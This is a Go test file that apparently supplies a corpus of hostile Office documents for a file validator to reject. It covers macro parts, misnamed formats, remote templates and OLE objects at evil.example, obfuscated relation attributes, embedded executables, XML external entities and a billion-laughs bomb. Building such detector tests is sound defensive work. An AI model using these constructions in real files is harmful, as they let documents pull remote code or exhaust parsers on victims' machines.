package corpus

import (
	"slices"
	"strings"
)

func hostileOffice() []File {
	return slices.Concat(officeMacros(), officeMisnamed(), officeMainParts(), officeRelations(), officeObjects(), officeXML(),
		officeFields(), officeSlides(), officeFormulas(), officeLoads(), officeHiddenXML())
}

func officeMacros() []File {
	return []File{
		badDocument("a document with macros", docx(file("word/vbaProject.bin", ole))),
		badDocument("macros under the name of a picture", docx(file("word/media/image1.png", ole))),
		badDocument("macros by their data alone", docx(file("word/vbaData.xml", "<x/>"))),
		badDocument("a document with macros by its content type", office("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml")),
		badDocument("macros by the type of an extension", docx(file("[Content_Types].xml", contentTypes(override("/word/document.xml", typeDOCX+".main+xml")+
			`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`)), file("word/x.bin", "x"))),
		badDocument("a relation to macros", related("vbaProject", "x.bin", "")),
		badWorkbook("a macro sheet", xlsx(file("xl/macrosheets/sheet1.xml", "<x/>"))),
		badWorkbook("a macro sheet by its type", xlsx(file("[Content_Types].xml", contentTypes(override("/xl/workbook.xml", typeXLSX+".main+xml")+
			override("/xl/worksheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"))), file("xl/worksheets/sheet1.xml", "<x/>"))),
		badWorkbook("a binary workbook", office("application/vnd.ms-excel.sheet.binary.macroEnabled.main", "xl/workbook.bin")),
	}
}

func officeMisnamed() []File {
	late := append([]zipEntry{file("a.xml", "<a/>")}, officeParts(typeXLSX+".main+xml", "xl/workbook.xml")...)
	return []File{
		{About: "a document named as one with macros", Name: "a.docm", Type: typeDOCX, Content: docx(), Code: typeNotAllowed},
		{About: "a workbook named as one with macros", Name: "a.xlsm", Type: typeXLSX, Content: xlsx(), Code: typeNotAllowed},
		{About: "slides named as ones with macros", Name: "a.pptm", Type: typePPTX, Content: pptx(), Code: typeNotAllowed},
		{About: "a workbook named as a document", Name: "a.docx", Type: typeDOCX, Content: xlsx(), Code: typeNotAllowed},
		{About: "a document named as an archive", Name: "a.zip", Type: typeZIP, Content: docx(), Code: typeNotAllowed},
		{About: "a document named as a workbook", Name: "a.xlsx", Type: typeDOCX, Content: docx(), Code: typeMismatch},
		badDocument("a workbook named as a document, seen late", zipOf(late...)),
		badDocument("an archive named as a document", zipOf(hello)),
		badDocument("a template", office("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", "word/document.xml")),
	}
}

func officeMainParts() []File {
	docMain := typeDOCX + ".main+xml"
	return []File{
		badDocument("a document without types", zipOf(officeParts(docMain, "word/document.xml")[1:]...)),
		badDocument("a document without its main part", zipOf(officeParts(docMain, "word/document.xml")[:2]...)),
		badDocument("a document whose relations lead to another part", docx(file("_rels/.rels", relations(relation("officeDocument", "word/other.xml", ""))), file("word/other.xml", "<x/>"))),
		badDocument("two main parts by type", docx(file("[Content_Types].xml", contentTypes(override("/word/document.xml", docMain)+override("/word/other.xml", docMain))), file("word/other.xml", "<x/>"))),
		badDocument("two main parts by relation", docx(file("_rels/.rels", relations(relation("officeDocument", "word/document.xml", ""), relation("officeDocument", "b.xml", ""))))),
	}
}

func officeRelations() []File {
	const external = `TargetMode="External"`
	return []File{
		badDocument("a template from elsewhere", docx(file("word/_rels/settings.xml.rels", relations(relation("attachedTemplate", "https://evil.example/t.dotm", external))))),
		badDocument("a template from elsewhere, spelled in references", docx(file("word/_rels/settings.xml.rels",
			strings.ReplaceAll(relations(relation("attachedTemplate", "https://evil.example/", external)), "attached", "&#97;ttached")))),
		badDocument("a picture from elsewhere", related("image", "https://evil.example/a.png", external)),
		badDocument("something from elsewhere, spelled in references", related("image", "https://evil.example/", `TargetMode="&#69;xternal"`)),
		badDocument("a relation with two modes", related("image", "https://evil.example/", `TargetMode="Internal" TargetMode="External"`)),
		badDocument("a relation with a second type in another namespace", related("oleObject", "https://evil.example/",
			external+` xmlns:x="urn:x" x:Type="`+relationTypes+`hyperlink"`)),
		badDocument("relations in pieces", docx(file("word/_rels/document.xml.rels/[0].last.piece", "<Relationships/>"))),
		badDocument("relations with a hidden name", docx(file("word/_rels/document.xml.%72els", "<Relationships/>"))),
		badDocument("an object from elsewhere", related("oleObject", "mhtml:https://evil.example/a.html!x-usc:", external)),
		badDocument("a foreign document that is imported", related("aFChunk", "chunk.html", "")),
		badDocument("a template in relations in UTF-16", docx(file("word/_rels/settings.xml.rels", utf16LE(strings.Replace(
			relations(relation("attachedTemplate", "https://evil.example/t.dotm", external)), "UTF-8", "UTF-16", 1))))),
		badDocument("relations that are not well-formed", docx(file("word/_rels/document.xml.rels", "<Relationships><a></Relationships>"))),
		badWorkbook("a link to another workbook", xlsx(file("xl/_rels/workbook.xml.rels", relations(relation("externalLink", "externalLinks/externalLink1.xml", ""))))),
	}
}

func officeObjects() []File {
	return []File{
		badDocument("an embedded object", docx(file("word/embeddings/oleObject1.bin", ole))),
		badDocument("an embedded object under another name", docx(file("word/embeddings/data.bin", ole+"x"))),
		badDocument("an ActiveX control", docx(file("word/activeX/activeX1.xml", "<x/>"))),
		badDocument("a program inside", docx(file("word/media/image1.emf", "MZ\x90\x00"))),
		badDocument("an archive inside", docx(file("word/embeddings/a.zip", string(zipOf(hello))))),
		badDocument("a document with macros inside", docx(file("word/embeddings/a.docx", string(docx(file("word/vbaProject.bin", ole)))))),
		badDocument("a workbook that is named as a document inside", docx(file("word/embeddings/a.docx", string(xlsx())))),
		badDocument("documents two levels deep", docx(file("word/embeddings/a.docx", string(docx(file("word/embeddings/a.xlsx", string(xlsx()))))))),
	}
}

func officeXML() []File {
	const laughs = `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>`
	return []File{
		badDocument("an external entity in the types", docx(file("[Content_Types].xml", declaration+doctype+"<Types>&a;</Types>"))),
		badDocument("an external entity in the text", docx(file("word/document.xml", declaration+"<!-- x -->"+doctype+"<x>&a;</x>"))),
		badDocument("an external entity in UTF-16", docx(file("word/document.xml", utf16LE(`<?xml version="1.0" encoding="UTF-16"?>`+doctype+"<x>&a;</x>")))),
		badDocument("a billion laughs", docx(file("word/document.xml", declaration+laughs))),
		badDocument("a part in EBCDIC", docx(file("word/document.xml", "L\xa7\x94\x93"))), // "<xml"
		badDocument("a part whose XML begins late", docx(file("word/document.xml", "<!--"+strings.Repeat("x", 5000)+"-->"+doctype+"<x/>"))),
	}
}
